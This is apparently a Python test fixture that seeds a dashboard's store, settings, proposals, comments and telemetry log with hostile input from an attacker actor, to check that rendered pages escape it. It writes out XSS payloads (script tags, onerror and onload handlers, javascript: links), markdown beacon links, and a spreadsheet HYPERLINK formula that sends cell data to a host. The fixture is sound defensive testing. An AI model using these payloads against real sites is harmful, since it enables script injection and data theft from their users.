"""A served home in which everything that somebody else may write is an attack on whoever reads it."""

import json
from collections.abc import Mapping
from pathlib import Path
from typing import Any
from urllib.parse import quote

from dashboard.cli.guarded import service_of
from gates.changes.content import Terms
from gates.changes.documents import renumbered
from gates.changes.recording import row_of
from gates.controls.publish import Publisher
from gates.policy.intent import Actor, Role
from gates.store.rows import RevisionKind
from gates.store.store import Store
from tests.dashboard.auth.town import Town, now, town
from tests.dashboard.record import SECOND_NS, line, spool

MARKUP = "<img src=x onerror=window.attacked=1><svg/onload=window.attacked=1>"
MARKDOWN = "![p](http://127.0.0.1:1/p.png)[Sign in](http://127.0.0.1:1/in)[x](javascript:window.attacked=1)"
ATTACK = f"\"'><script>window.attacked=1</script>{MARKUP}{MARKDOWN}${{alert(1)}}"
RUN = "javascript:window.attacked=1//https://decisions.example/7"
SHOWN = "onerror=window.attacked"
FORMULA = '=HYPERLINK("http://127.0.0.1:1/?"&A1,"x")'
FILE = f"{MARKUP.replace('/', '')}[x](javascript:window.attacked=1).log"
MALLORY = Actor(f"local|{MARKUP}", frozenset(Role))


def hostile_town(folder: Path) -> Town:
    """Alice may everything; request 1 is open, request 2 rejected, and all of it is Mallory's."""
    people = town(folder, clock=now())
    store = Store.open(people.home.store)
    with store.begin() as tx:
        newest = tx.revisions.newest()
        assert newest is not None
        document = _with_names(newest.after, people.clock())
        tx.operators.add(MALLORY.actor_id, MALLORY.roles, by="local|alice", at_ns=people.clock())
        kind, at_ns = RevisionKind.WIDENING, people.clock()
        row = row_of(document, newest.after, kind, actor_id=MALLORY.actor_id, intent_id="third", at_ns=at_ns)
        tx.revisions.append(row)
        tx.settings.set("environment", ATTACK)
        tx.settings.set("roll_back_latched", ATTACK)
        tx.settings.set("roll_back_latched_revision", "3")
    Publisher(people.home, people.clock).publish(document)
    service = service_of(people.home, store)
    for number, record in ((1, RUN), (2, f"https://decisions.example/{quote(MARKUP)}#{MARKUP}")):
        terms = Terms(reason=ATTACK, decision_record=record, exception=ATTACK, broadening_not_needed=ATTACK)
        service.propose(MALLORY, {"percent": 10}, terms)
        service.comment(MALLORY, number, ATTACK)
    service.reject(MALLORY, 2, ATTACK)
    service.report_bad(MALLORY, ATTACK, ATTACK)
    store.close()
    _telemetry(people)
    return people


def _with_names(before: Mapping[str, Any], at_ns: int) -> dict[str, Any]:
    document = dict(renumbered(dict(before), revision=before["revision"] + 1))
    rules = [{**rule, "id": ATTACK} for rule in document["allowlist"]["rules"]]
    return {**document, "environment": ATTACK, "allowlist": {**document["allowlist"], "rules": rules}}


def _telemetry(people: Town) -> None:
    lines = []
    for number, code in enumerate((ATTACK, "OPENAI_HTTP_ERROR", FORMULA, None)):
        status = "COMPLETED" if code is None else "FAILED"
        one = json.loads(line(f"{ATTACK}{number}", "openai", status, code, 900.0))
        lines.append({**one, "executorVersion": f"v{number}{ATTACK}"})
    lines.append({**json.loads(line(ATTACK, "openai", "FAILED", "OPENAI_HTTP_ERROR", 5.0))})
    lines.append({"version": "v9", "jobId": ATTACK, "path": ATTACK, ATTACK: ATTACK})
    at_ns = people.clock()
    begun = [(at_ns - (9 - index) * SECOND_NS, json.dumps(one).encode()) for index, one in enumerate(lines)]
    spool(people.home, begun, FILE)
